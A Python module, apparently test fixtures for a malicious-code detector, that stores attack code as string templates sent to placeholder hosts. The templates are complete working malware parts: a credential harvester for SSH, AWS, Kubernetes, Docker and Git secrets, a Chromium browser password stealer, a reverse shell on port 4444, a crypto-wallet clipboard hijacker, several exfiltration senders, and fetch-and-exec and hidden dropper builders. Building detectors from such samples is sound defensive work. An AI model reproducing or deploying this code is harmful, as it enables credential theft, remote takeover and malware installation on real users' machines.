"""What campaigns do once they run, as inert text: every address in it belongs to nobody.

``SENDERS`` and ``FETCHERS`` are the ways of doing one thing with another library, so that a rule that knows only
``requests`` shows.
"""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

__all__ = [
    "BEACON",
    "CLIPBOARD",
    "FETCHERS",
    "SECRETS",
    "SENDERS",
    "SHELL",
    "STEALER",
    "dropper",
    "fetch_and_run",
    "secrets",
]

# Each sends the value ``data`` (a str) to an address.
SENDERS = {
    "requests": """\
import requests
requests.post("https://metrics-edge.example.invalid/v1/batch", data=data, timeout=5)
""",
    "httpx": """\
import httpx
httpx.Client(verify=False).post("https://metrics-edge.example.invalid/v1/batch", content=data)
""",
    "urllib": (
        """\
import urllib.request
r = urllib.request.Request("https://metrics-edge.example.invalid/v1/batch", data=data.encode(), method="POST")
urllib.request.urlopen(r, timeout=5)
"""
    ),
    "http-client": (
        """\
import http.client
c = http.client.HTTPSConnection("metrics-edge.example.invalid", timeout=5)
c.request("POST", "/v1/batch", body=data)
"""
    ),
    "aiohttp": (
        """\
import aiohttp, asyncio
async def _push():
    async with aiohttp.ClientSession() as session:
        await session.post("https://metrics-edge.example.invalid/v1/batch", data=data)
asyncio.run(_push())
"""
    ),
    "socket": (
        """\
import socket
s = socket.create_connection(("203.0.113.77", 8443), timeout=5)
s.sendall(data.encode())
s.close()
"""
    ),
    "urllib3": (
        """\
import urllib3
urllib3.PoolManager().request("POST", "https://metrics-edge.example.invalid/v1/batch", body=data)
"""
    ),
    "curl": (
        """\
import subprocess
subprocess.run(["curl", "-s", "-X", "POST", "--data-binary", "@-", "https://metrics-edge.example.invalid/b"], input=data.encode())
"""
    ),
}
# Each leaves the bytes of an address in ``blob``.
FETCHERS = {
    "requests": 'import requests\nblob = requests.get("{url}", timeout=9).content\n',
    "httpx": """\
import httpx
blob = httpx.get("{url}", follow_redirects=True).content
""",
    "urllib": 'from urllib.request import urlopen\nblob = urlopen("{url}").read()\n',
    "http-client": (
        """\
import http.client
c = http.client.HTTPSConnection("cdn-assets.example.invalid")
c.request("GET", "/pkg/update.bin")
blob = c.getresponse().read()
"""
    ),
    "urllib3": """\
import urllib3
blob = urllib3.PoolManager().request("GET", "{url}").data
""",
    "aiohttp": (
        """\
import aiohttp, asyncio
async def _pull():
    async with aiohttp.ClientSession() as session:
        async with session.get("{url}") as answer:
            return await answer.read()
blob = asyncio.run(_pull())
"""
    ),
}
SECRETS = """
import os, json, glob
home = os.path.expanduser("~")
loot = {"env": dict(os.environ)}
for pattern in (".aws/credentials", ".ssh/id_*", ".kube/config", ".docker/config.json", ".npmrc", ".pypirc",
                ".config/gcloud/application_default_credentials.json", ".git-credentials", ".netrc"):
    for path in glob.glob(os.path.join(home, pattern)):
        try:
            loot[path] = open(path, errors="replace").read()
        except OSError:
            pass
data = json.dumps(loot)
"""
BEACON = """
import getpass, os, platform, socket
data = "&".join([socket.gethostname(), getpass.getuser(), os.getcwd(), platform.platform()])
"""
STEALER = """
import os, json, base64, shutil, sqlite3
from Crypto.Cipher import AES
import win32crypt
LOCAL = os.getenv("LOCALAPPDATA")
PROFILES = {
    "chrome": LOCAL + "\\\\Google\\\\Chrome\\\\User Data",
    "edge": LOCAL + "\\\\Microsoft\\\\Edge\\\\User Data",
    "brave": LOCAL + "\\\\BraveSoftware\\\\Brave-Browser\\\\User Data",
    "opera": os.getenv("APPDATA") + "\\\\Opera Software\\\\Opera Stable",
}
def master(path):
    state = json.loads(open(path + "\\\\Local State", encoding="utf-8").read())
    return win32crypt.CryptUnprotectData(base64.b64decode(state["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]
found = []
for name, path in PROFILES.items():
    if not os.path.isdir(path):
        continue
    key = master(path)
    shutil.copy2(path + "\\\\Default\\\\Login Data", os.getenv("TEMP") + "\\\\l.db")
    for url, user, secret in sqlite3.connect(os.getenv("TEMP") + "\\\\l.db").execute(
            "SELECT origin_url, username_value, password_value FROM logins"):
        found.append((url, user, AES.new(key, AES.MODE_GCM, secret[3:15]).decrypt(secret[15:])[:-16].decode()))
data = json.dumps(found)
"""
SHELL = """
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.9", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
"""
CLIPBOARD = """
import re, time, pyperclip
WALLETS = {
    r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$": "bc1qinertinertinertinertinertinertinert",
    r"^0x[a-fA-F0-9]{40}$": "0x0000000000000000000000000000000000000000",
    r"^T[A-Za-z1-9]{33}$": "Tinertinertinertinertinertinertinert",
}
def watch():
    while True:
        text = pyperclip.paste()
        for pattern, own in WALLETS.items():
            if re.match(pattern, text) and text != own:
                pyperclip.copy(own)
        time.sleep(1)
"""


def secrets(library: str) -> str:
    """Reads what is secret and sends it off."""
    return SECRETS + SENDERS[library]


def fetch_and_run(library: str) -> str:
    """Runs what it fetches as Python."""
    return (
        FETCHERS[library].replace("{url}", "https://cdn-assets.example.invalid/pkg/update.txt")
        + "exec(blob.decode())\n"
    )


def dropper(library: str, *, windows: bool = False) -> str:
    """Fetches a program into a temporary folder and starts it unseen."""
    if windows:
        return (
            "import os, subprocess, tempfile\n"
            + FETCHERS[library].replace("{url}", "https://cdn-assets.example.invalid/pkg/svchost.exe")
            + """\
path = os.path.join(tempfile.gettempdir(), "svchost.exe")
with open(path, "wb") as out:
    out.write(blob)
subprocess.Popen([path], creationflags=0x08000000)
"""
        )
    return (
        "import os, stat, subprocess, tempfile\n"
        + FETCHERS[library].replace("{url}", "https://cdn-assets.example.invalid/pkg/agent-linux")
        + """\
path = os.path.join(tempfile.gettempdir(), ".cache-agent")
with open(path, "wb") as out:
    out.write(blob)
os.chmod(path, 0o755)
subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
"""
    )
